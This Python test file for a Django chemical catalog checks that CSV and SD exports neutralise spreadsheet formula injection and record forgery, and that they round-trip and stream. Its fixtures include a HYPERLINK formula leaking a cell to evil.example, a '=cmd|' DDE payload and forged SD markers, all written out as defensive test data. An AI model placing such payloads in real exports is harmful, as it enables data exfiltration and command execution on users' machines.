"""Exports are safe to open (no spreadsheet formulas, no forged SD records), import back exactly, and stream."""

import csv
import itertools
from decimal import Decimal
from io import StringIO
from pathlib import Path

import pytest
from django.core.management import call_command
from django.db import connection
from django.test.utils import CaptureQueriesContext
from rdkit import Chem

from catalog.exporting import escape_cell, export_queryset, iter_sdf, sd_value, unescape_cell, write_csv
from catalog.importing import LineReader, read_sdf
from catalog.models import Compound, Synonym
from catalog.resources import CompoundResource
from tests.factories import make_compound

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


# -- the escape itself --------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
        ("+/-", "'+/-"),
        ("-", "'-"),
        ("-20.5", "'-20.5"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("'=1", "''=1"),
        ("''-", "'''-"),
        ("'quoted'", "'quoted'"),
        ("(+)-Milnacipran", "(+)-Milnacipran"),
        ("Milnacipran", "Milnacipran"),
        ("", ""),
    ],
)
def test_escape_cell(value, cell):
    assert escape_cell(value) == cell


@pytest.mark.parametrize("value", [HYPERLINK, "+/-", "-", "'", "''", "'=1", "''=1", "'abc", "a'=", "", "@", "\t"])
def test_unescape_cell_restores_exactly(value):
    assert unescape_cell(escape_cell(value)) == value


def test_unescape_leaves_a_value_without_our_prefix_alone():
    assert unescape_cell("'abc") == "'abc"


# -- CSV injection in the exports ---------------------------------------------------------------


@pytest.fixture
def formula_names(db):
    compound = make_compound(
        catalog_number="IMP0001",
        name=HYPERLINK,
        slug="hyperlink",
        isomeric_smiles="CCO",
        molecular_formula="C2H6O",
        molecular_weight=Decimal("46.069"),
        iupac_name="-",
        melting_point_celsius=Decimal("-114.1"),
        melting_point_note="+/- 0.5 °C",
        disagreement_reason="'=already quoted",
    )
    Synonym.objects.create(compound=compound, name="=1+1", position=0)
    Synonym.objects.create(compound=compound, name="@home", position=1)
    make_compound(
        catalog_number="IMP0002",
        name="=cmd|' /C calc'!A0",
        iupac_name="+/-",
        slug="plus-minus",
        isomeric_smiles="CCCO",
        molecular_formula="C3H8O",
        molecular_weight=Decimal("60.096"),
    )
    return compound


def export_csv() -> str:
    out = StringIO()
    call_command("export_compounds", "--format", "csv", stdout=out)
    return out.getvalue()


def test_csv_export_prefixes_formula_cells(formula_names):
    row = next(csv.DictReader(StringIO(export_csv())))
    assert (row["name"], row["synonyms"], row["iupac_name"], row["melting_point_celsius"]) == (
        "'" + HYPERLINK,
        "'=1+1|@home",
        "'-",
        "'-114.1",
    )


def test_csv_export_has_no_cell_a_spreadsheet_would_run(formula_names):
    cells = [cell for row in csv.reader(StringIO(export_csv())) for cell in row]
    assert [cell for cell in cells if cell[:1] in {"=", "+", "-", "@", "\t", "\r"}] == []


def test_admin_export_prefixes_formula_cells(formula_names):
    exported = CompoundResource().export()
    assert exported.dict[0]["name"] == "'" + HYPERLINK


def snapshot() -> list[tuple]:
    fields = ["catalog_number", "name", "iupac_name", "melting_point_celsius", "melting_point_note"]
    return [
        (
            *(getattr(c, name) for name in [*fields, "disagreement_reason"]),
            list(c.synonyms.values_list("name", flat=True)),
        )
        for c in Compound.objects.order_by("catalog_number")
    ]


def test_csv_round_trip_restores_formula_like_values(formula_names, tmp_path):
    path = tmp_path / "catalog.csv"
    path.write_text(export_csv())
    before = snapshot()
    Compound.objects.all().delete()
    call_command("import_compounds", str(path), "--commit", "--no-progress", stdout=StringIO())
    assert snapshot() == before


def test_csv_round_trip_into_the_same_catalog_changes_nothing(formula_names, tmp_path):
    path = tmp_path / "catalog.csv"
    path.write_text(export_csv())
    out = StringIO()
    call_command("import_compounds", str(path), "--commit", "--no-progress", stdout=out)
    assert "2 records, 0 created, 0 updated, 2 unchanged, 0 bad" in out.getvalue()


def test_admin_round_trip_restores_formula_like_values(formula_names):
    import tablib

    text = CompoundResource().export().csv
    before = snapshot()
    Compound.objects.all().delete()
    result = CompoundResource().import_data(tablib.Dataset().load(text, format="csv"), dry_run=False)
    assert (result.has_errors(), result.has_validation_errors(), snapshot()) == (False, False, before)


def test_admin_preview_writes_nothing(formula_names):
    import tablib

    text = CompoundResource().export().csv
    Compound.objects.all().delete()
    with CaptureQueriesContext(connection) as queries:
        CompoundResource().import_data(tablib.Dataset().load(text, format="csv"), dry_run=True)
    writes = [q["sql"] for q in queries.captured_queries if q["sql"].startswith(("INSERT", "UPDATE", "DELETE"))]
    assert writes == []


# -- SD files: no field can forge a record ------------------------------------------------------


def test_sd_value_keeps_record_markers_off_the_start_of_a_line():
    assert [sd_value(v) for v in ["$$$$", "> <name>", "a\n$$$$\nb", "ok"]] == [" $$$$", " > <name>", "a $$$$ b", "ok"]


@pytest.fixture
def forging_names(db):
    compound = make_compound(
        catalog_number="IMP0001",
        name="$$$$",
        slug="dollars",
        isomeric_smiles="CCO",
        molecular_formula="C2H6O",
        molecular_weight=Decimal("46.069"),
        iupac_name="> <catalog_number>",
        melting_point_note=">  <smiles>",
    )
    Synonym.objects.create(compound=compound, name="$$$$", position=0)
    legacy = make_compound(
        catalog_number="IMP0002",
        name="Propanol",
        slug="propanol",
        isomeric_smiles="CCCO",
        molecular_formula="C3H8O",
        molecular_weight=Decimal("60.096"),
    )
    # A row written before the validators (or by raw SQL) may still hold line breaks.
    Compound.objects.filter(pk=legacy.pk).update(disagreement_reason="first\n$$$$\n> <catalog_number>\nIMP9999")
    return compound


def export_sdf(tmp_path: Path) -> Path:
    path = tmp_path / "catalog.sdf"
    call_command("export_compounds", "-o", str(path), stdout=StringIO(), stderr=StringIO())
    return path


def test_sdf_export_cannot_be_forged_for_our_reader(forging_names, tmp_path):
    with export_sdf(tmp_path).open("rb") as stream:
        records = list(read_sdf(LineReader(stream)))
    assert [(r.values["catalog_number"], r.values["name"], r.values.get("iupac_name")) for r in records] == [
        ("IMP0001", "$$$$", "> <catalog_number>"),
        ("IMP0002", "Propanol", None),
    ]


def test_sdf_export_cannot_be_forged_for_rdkit(forging_names, tmp_path):
    molecules = list(Chem.SDMolSupplier(str(export_sdf(tmp_path))))
    assert [m.GetProp("catalog_number") for m in molecules] == ["IMP0001", "IMP0002"]


def test_sdf_export_writes_a_legacy_line_break_as_a_space(forging_names, tmp_path):
    molecule = list(Chem.SDMolSupplier(str(export_sdf(tmp_path))))[1]
    assert molecule.GetProp("disagreement_reason") == "first $$$$ > <catalog_number> IMP9999"


def test_sdf_round_trip_restores_marker_like_values(forging_names, tmp_path):
    path = export_sdf(tmp_path)
    Compound.objects.filter(pk=forging_names.pk).update(name="changed", iupac_name="", melting_point_note="")
    Synonym.objects.filter(compound=forging_names).delete()
    call_command("import_compounds", str(path), "--commit", "--no-progress", stdout=StringIO())
    compound = Compound.objects.get(pk=forging_names.pk)
    assert (compound.name, compound.iupac_name, compound.melting_point_note, list(compound.synonyms.all())) == (
        "$$$$",
        "> <catalog_number>",
        ">  <smiles>",
        [Synonym.objects.get(compound=compound)],
    )


# -- streaming ----------------------------------------------------------------------------------


@pytest.mark.django_db
def test_csv_export_writes_each_row_before_reading_the_next():
    compound = make_compound(isomeric_smiles="CCO", molecular_formula="C2H6O", molecular_weight=Decimal("46.069"))
    stream = StringIO()

    def compounds():
        for expected_rows in range(1, 4):
            yield compound
            assert stream.getvalue().count("\n") == expected_rows + 1  # header and the rows so far

    write_csv(compounds(), stream)
    assert stream.getvalue().count("\n") == 4


@pytest.mark.django_db
def test_sdf_export_is_lazy():
    compound = make_compound(isomeric_smiles="CCO", molecular_formula="C2H6O", molecular_weight=Decimal("46.069"))
    endless = itertools.cycle([compound])
    assert len(list(itertools.islice(iter_sdf(endless, skipped=lambda c, r: None), 3))) == 3


@pytest.mark.django_db
def test_export_reads_no_depiction():
    make_compound(isomeric_smiles="CCO", molecular_formula="C2H6O", molecular_weight=Decimal("46.069"))
    with CaptureQueriesContext(connection) as queries:
        list(export_queryset().iterator(chunk_size=10))
    assert [q["sql"] for q in queries.captured_queries if "structure_svg" in q["sql"]] == []


@pytest.mark.django_db
def test_export_reads_synonyms_once_per_chunk():
    for smiles in ["C", "CC", "CCC"]:
        make_compound(isomeric_smiles=smiles)
    with CaptureQueriesContext(connection) as queries:
        write_csv(export_queryset().iterator(chunk_size=2), StringIO())
    assert len(queries.captured_queries) == 3  # the compounds from one cursor, the synonyms of each chunk of two


@pytest.mark.django_db
def test_sdf_export_names_a_compound_it_leaves_out():
    make_compound(catalog_number="IMP0404", isomeric_smiles="C1CC(")
    err = StringIO()
    call_command("export_compounds", "--format", "sdf", stdout=StringIO(), stderr=err)
    assert err.getvalue().splitlines()[0].startswith("Left out IMP0404: RDKit cannot parse the SMILES 'C1CC('")


# -- order ----------------------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["csv", "sdf"])
def test_demo_catalog_exports_into_an_empty_catalog(demo_catalog, tmp_path, fmt):
    path = tmp_path / f"catalog.{fmt}"
    call_command("export_compounds", "-o", str(path), stdout=StringIO(), stderr=StringIO())
    Compound.objects.all().delete()
    out = StringIO()
    call_command("import_compounds", str(path), "--commit", "--no-progress", stdout=out)
    assert "Imported: 11 records, 11 created, 0 updated, 0 unchanged, 0 bad" in out.getvalue()


def test_a_form_is_exported_before_the_compound_that_takes_its_melting_point(demo_catalog):
    numbers = [row.split(",")[0] for row in export_csv().splitlines()[1:]]
    assert numbers.index("CC0000010") < numbers.index("VC0006221")
